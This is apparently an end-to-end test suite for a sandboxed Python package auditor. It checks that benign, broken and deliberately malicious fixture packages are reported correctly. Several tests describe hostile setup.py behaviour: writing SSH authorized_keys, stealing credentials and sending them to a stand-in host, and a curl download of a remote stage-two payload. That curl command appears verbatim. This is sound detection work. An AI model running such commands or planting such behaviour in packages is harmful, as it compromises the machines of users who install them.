/**
 * End to end: each fixture package, built into a real sdist, audited in the real bubblewrap sandbox
 * with real pip, pytest, coverage, pylint, pycodestyle and strace in the real guest image.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type AuditOutcome } from '@pyti/slave';
import { severityAtLeast, type AuditReport } from '@pyti/common';
import { auditFixture, cleanupFixtureAudits } from './fixture-audit.js';

const task = (r: AuditReport, id: string) => r.tasks.find((t) => t.id === id)!;
const rules = (r: AuditReport) => r.findings.map((f) => `${f.phase}:${f.rule}:${f.severity}`);

describe('auditing fixture packages in the sandbox', () => {
  let sample: AuditOutcome;
  beforeAll(async () => {
    sample = await auditFixture('pyti-sample', { wheelhouse: ['pyti-helper'] });
  });
  afterAll(cleanupFixtureAudits);

  it('a benign package is clean: every task passes, tests and coverage are reported, no finding above info', () => {
    const r = sample.report;
    expect(r.tasks.map((t) => [t.id, t.status])).toEqual(r.tasks.map((t) => [t.id, 'pass']));
    expect(r).toMatchObject({ result: 'pass', verdict: 'clean' });
    expect(sample.exitCode).toBe(0);
    expect(r.findings.filter((f) => severityAtLeast(f.severity, 'low'))).toEqual([]);
    expect(r.tests).toMatchObject({ total: 4, passed: 4, failed: 0 });
    expect(r.tests!.cases.map((c) => c.name)).toContain('test_empty'); // the unittest-style test ran too
    expect(r.coverage!.percent).toBeGreaterThan(80);
    expect(r.lint!.score).toBeGreaterThan(8); // its dependency resolves from the wheelhouse: no import-error
    expect(r.lint!.messages.map((m) => m.symbol)).not.toContain('import-error');
    expect(r.install!.installed!.map((i) => i.name).sort()).toEqual(['pyti-helper', 'pyti-sample']);
    // A task of a second or less (style, the bait tasks, inspect, import in a bare venv) can end before the first memory sample.
    expect(r.tasks.filter((x) => (x.durationMs ?? 0) > 1500 && !((x.peakMemoryBytes ?? 0) > 0)).map((x) => x.id)).toEqual([]);
    expect(r.tasks.filter((x) => (x.peakMemoryBytes ?? 0) > 0).length).toBeGreaterThanOrEqual(4);
  });

  it('the benign install trace shows the installer\'s process and the venv files, bytecode compiled, and no network', () => {
    const tr = sample.report.traces.install!;
    // No resolver in the guest: one interpreter installs the host's plan (pyti-helper) and then the package's wheel.
    expect(sample.report.install!.installer).toBe('installer');
    expect(sample.report.install!.installed!.map((i) => i.name)).toEqual(['pyti-helper', 'pyti-sample']);
    const installer = tr.processes.find((p) => p.argv.some((a) => a.endsWith('/pyti_wheel_install.py')));
    expect(installer?.argv.map((a) => a.split('/').pop())).toEqual(expect.arrayContaining(['pyti_helper-0.1-py3-none-any.whl', 'pyti_sample-1.0-py3-none-any.whl']));
    expect(tr.processes.some((p) => p.argv.join(' ').includes(' -m pip'))).toBe(false);
    expect(tr.files.some((f) => f.path.includes('/site-packages/pyti_sample/__init__.py') && f.ops.includes('create'))).toBe(true);
    // Bytecode written at install (compileall writes a temporary file and renames it over the .pyc).
    expect(tr.files.some((f) => /\/site-packages\/pyti_sample\/__pycache__\/__init__\.cpython-\d+\.pyc/.test(f.path))).toBe(true);
    // Nothing binds, connects or sends (pip's IPv6 probe is gone with pip).
    expect(tr.network.filter((n) => n.op === 'connect' || n.op === 'send')).toEqual([]);
    expect(tr.network.every((n) => n.op === 'bind' && n.address === '::1' && n.port === 0)).toBe(true);
    expect(sample.report.traces.import!.counts.processes).toBeGreaterThan(0);
  });

  it('writes report.json, a self-contained report.html and the raw data', () => {
    const out = sample.outDir;
    const json = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as AuditReport;
    expect(json.schemaVersion).toBe(1);
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    expect(html).toContain('pyti-sample 1.0 — CLEAN');
    expect(html).not.toMatch(/<script|<link /);
    expect(existsSync(join(out, 'raw/install/install.strace'))).toBe(true);
    expect(existsSync(join(out, 'raw/test/junit.xml'))).toBe(true);
  });

  it('failing tests: test-fail with each failure\'s traceback', async () => {
    const { report: r, exitCode } = await auditFixture('failing-tests');
    expect(r).toMatchObject({ result: 'test-fail', verdict: 'clean' }); // observed, nothing found; the result says the tests failed
    expect(exitCode).toBe(1);
    expect(r.tests).toMatchObject({ passed: 1, failed: 2 });
    const mul = r.tests!.cases.find((c) => c.name === 'test_mul')!;
    expect(mul.outcome).toBe('failed');
    expect(mul.traceback).toContain('mul is wrong');
    expect(mul.needsNetwork).toBe(false);
  });

  it('lint errors: pylint messages and score, pycodestyle counts; the audit still passes', async () => {
    const { report: r } = await auditFixture('lint-errors');
    expect(r.result).toBe('pass');
    expect(r.lint!.messages.map((m) => m.symbol)).toEqual(expect.arrayContaining(['undefined-variable', 'unused-variable', 'multiple-imports', 'bad-indentation']));
    expect(r.lint!.score).toBeLessThan(5);
    expect(r.lint!.messages[0]!.path).toMatch(/^lint_errors\//);
    expect(r.style!.total).toBeGreaterThan(3);
    expect(Object.keys(r.style!.byCode)).toEqual(expect.arrayContaining(['E401', 'E111']));
  });

  it('a C extension is compiled, installed, imported and tested', async () => {
    const { report: r } = await auditFixture('cext-pkg');
    expect(r.result).toBe('pass');
    expect(r.build!.wheel).toMatch(/cp311-cp311-linux_x86_64\.whl$/);
    expect(rules(r)).toContain('build:native-build:info');
    expect(r.tests).toMatchObject({ passed: 1, failed: 0 });
    expect(r.verdict).toBe('clean');
  });

  it('a build failure skips everything downstream, with the reason', async () => {
    const { report: r, exitCode } = await auditFixture('build-fail');
    expect(r.result).toBe('build-fail');
    expect(exitCode).toBe(1);
    expect(task(r, 'build').status).toBe('fail');
    expect(task(r, 'build').outputTail).toContain('error');
    expect(task(r, 'install')).toMatchObject({ status: 'skipped', reason: 'run halted by build' });
    expect(task(r, 'lint').status).not.toBe('skipped');
  });

  it('a setup.py that tries the network: DNS lookup and connection attempts are findings with evidence', async () => {
    const { report: r } = await auditFixture('net-setup');
    expect(r.result).toBe('pass');
    expect(['suspicious', 'malicious']).toContain(r.verdict);
    const dns = r.findings.find((f) => f.rule === 'dns-lookup')!;
    expect(dns).toMatchObject({ phase: 'build', severity: 'high', title: 'build looks up pyti-exfil.invalid' });
    expect(dns.evidence[0]!.line).toBeGreaterThan(0);
    const net = r.findings.filter((f) => f.rule === 'network-attempt').map((f) => f.title);
    expect(net).toEqual(expect.arrayContaining(['build tries the network: 127.0.0.1:9']));
    expect(r.traces.build!.dnsNames).toContain('pyti-exfil.invalid');
    expect(r.traces.build!.network.some((n) => n.address === '127.0.0.1' && n.port === 9 && !n.ok)).toBe(true);
  });

  it('a setup.py that writes ~/.ssh: critical findings', async () => {
    const { report: r, exitCode, outDir } = await auditFixture('ssh-writer');
    expect(r).toMatchObject({ verdict: 'malicious', observation: { kind: 'is_malware' } });
    expect(r.score).toBeGreaterThanOrEqual(100);
    expect(exitCode).toBe(4);
    expect(rules(r)).toEqual(expect.arrayContaining(['build:sensitive-write:critical', 'build:persistence:critical', 'build:sensitive-read:high']));
    expect(r.maxSeverity).toBe('critical');
    // The trace summary says whose: the key written by setup.py is the package's, the image's setuptools read by it the tooling's.
    const build = r.traces.build!;
    expect(build.files.find((f) => f.path.endsWith('/.ssh/authorized_keys'))).toMatchObject({ owner: 'package', ops: expect.arrayContaining(['create']) });
    expect(build.files.filter((f) => f.path.includes('/setuptools/')).every((f) => f.owner === 'tooling')).toBe(true);
    expect(build.counts.filesByOwner!.package).toBe(build.files.filter((f) => f.owner === 'package').length);
    // Its evidence names the raw line that shows the write (what the report links).
    const evidence = r.findings.find((f) => f.rule === 'sensitive-write')!.evidence[0]!;
    expect(readFileSync(join(outDir, 'raw/build/build.strace'), 'utf8').split('\n')[evidence.line - 1]).toContain('/.ssh');
    expect(readFileSync(join(outDir, 'report.html'), 'utf8')).toContain(`<a href="raw/build/build.strace">build.strace:${evidence.line}</a>`);
  });

  it('a setup.py that sweeps credential stores and sends the planted key out: probe, bait read, canary leak, chain', async () => {
    const { report: r } = await auditFixture('bait-stealer');
    expect(r.verdict).toBe('malicious');
    expect(r.tasks.find((t) => t.id === 'bait')!.status).toBe('pass');
    expect(r.bait!.files.some((f) => f.endsWith('/.ssh/id_rsa'))).toBe(true);
    expect(rules(r)).toEqual(expect.arrayContaining([
      'build:credential-probe:high', 'build:bait-read:high', 'build:canary-leak:critical', 'build:secret-exfil-chain:critical',
    ]));
    const leak = r.findings.find((f) => f.rule === 'canary-leak')!;
    expect(leak.title).toContain('ssh-private-key');
    expect(leak.evidence[0]!.summary).toMatch(/pyti-exfil\.invalid/);
  });

  it('a setup.py that spawns sh -c curl: shell and downloader spawns', async () => {
    const { report: r } = await auditFixture('curl-spawner');
    const spawns = r.findings.filter((f) => f.rule === 'suspicious-spawn');
    expect(spawns.map((f) => f.title)).toEqual(expect.arrayContaining(['build spawns a shell: sh', 'build spawns a downloader: curl']));
    expect(spawns.find((f) => f.title.includes('sh'))!.evidence[0]!.summary).toContain('curl -fsS http://pyti-payload.invalid/stage2');
  });

  it('tests that need the network fail, and are marked as such', async () => {
    const { report: r } = await auditFixture('net-tests');
    expect(r.result).toBe('test-fail');
    const byName = Object.fromEntries(r.tests!.cases.map((c) => [c.name, c]));
    expect(byName.test_offline_part!.outcome).toBe('passed');
    expect(byName.test_fetch_needs_dns).toMatchObject({ outcome: 'failed', needsNetwork: true });
    expect(byName.test_needs_local_server).toMatchObject({ outcome: 'failed', needsNetwork: true });
  });

  it('import-time side effects: a dropped executable and shell persistence, during import', async () => {
    const { report: r } = await auditFixture('import-side-effects');
    expect(rules(r)).toEqual(expect.arrayContaining(['import:dropped-executable:critical', 'import:persistence:high']));
    expect(r.imports).toEqual([expect.objectContaining({ module: 'import_side_effects', ok: true })]);
    // import and test run the package one after the other as one user, so the tests' import redoes
    // every side effect over the first one's files (as two uids, the second could not rewrite the
    // dropped script and coverage fell from 88.9 % to 72.2 %, depending on which ran first).
    const [imp, tst] = [task(r, 'import'), task(r, 'test')];
    expect(tst.startedAt!).toBeGreaterThanOrEqual(imp.startedAt! + imp.durationMs! - 20); // two clocks: ms slack
    expect(r.coverage!.percent).toBeCloseTo(88.9, 1);
  });

  it('a wheelhouse lacking a dependency is a dependency problem, not a crash', async () => {
    const { report: r, exitCode } = await auditFixture('needs-missing-dep');
    expect(r.result).toBe('install-fail:deps');
    // Named by the guest's check of the built wheel's Requires-Dist against the host's plan (no pip ran).
    expect(r.install!.missingDependencies).toEqual(['pyti-not-in-wheelhouse>=1.0']);
    expect(r.install!.installer).toBe('installer');
    expect(r.install!.resolverFallback).toBeUndefined();
    expect(exitCode).toBe(1);
    expect(task(r, 'test')).toMatchObject({ status: 'skipped' });
  });

  it('dynamic dependencies (only the built wheel declares them) that the wheelhouse has: pip resolves them, and the report says so', async () => {
    const { report: r } = await auditFixture('dynamic-deps', { wheelhouse: ['pyti-helper'] });
    expect(r.distribution.requiresDist).toEqual([]); // the sdist's static metadata lists none
    expect(r.result).toBe('pass');
    expect(r.install).toMatchObject({ installer: 'pip', resolverFallback: { requirements: ['pyti-helper>=0.1'] } });
    expect(r.install!.installed!.map((i) => i.name).sort()).toEqual(['dynamic-deps', 'pyti-helper']);
    expect((r as AuditReport & { notes?: string[] }).notes?.join('\n')).toMatch(/pip's resolver ran in the guest: .*pyti-helper/);
    expect(r.tasks.find((t) => t.id === 'install')).toMatchObject({ status: 'pass', reason: expect.stringMatching(/^pip's resolver ran in the guest: .*pyti-helper/) });
    expect(r.tests).toMatchObject({ passed: 1, failed: 0 });
  });

  it('dynamic dependencies the wheelhouse lacks: install-fail:deps naming them', async () => {
    const { report: r } = await auditFixture('dynamic-deps');
    expect(r.result).toBe('install-fail:deps');
    expect(r.install).toMatchObject({ installer: 'installer', missingDependencies: ['pyti-helper>=0.1'] });
  });

  it('a wheel input is audited without a build', async () => {
    const { report: r } = await auditFixture('pyti-sample', { kind: 'wheel', wheelhouse: ['pyti-helper'] });
    expect(r.distribution.kind).toBe('wheel');
    expect(r.build!.mode).toBe('prebuilt');
    expect(r.result).toBe('no-tests'); // a wheel ships no tests: its own status, exit code 0
    expect(r.tests).toMatchObject({ status: 'no tests' });
    expect(r.traces.build).toBeUndefined();
  });
});
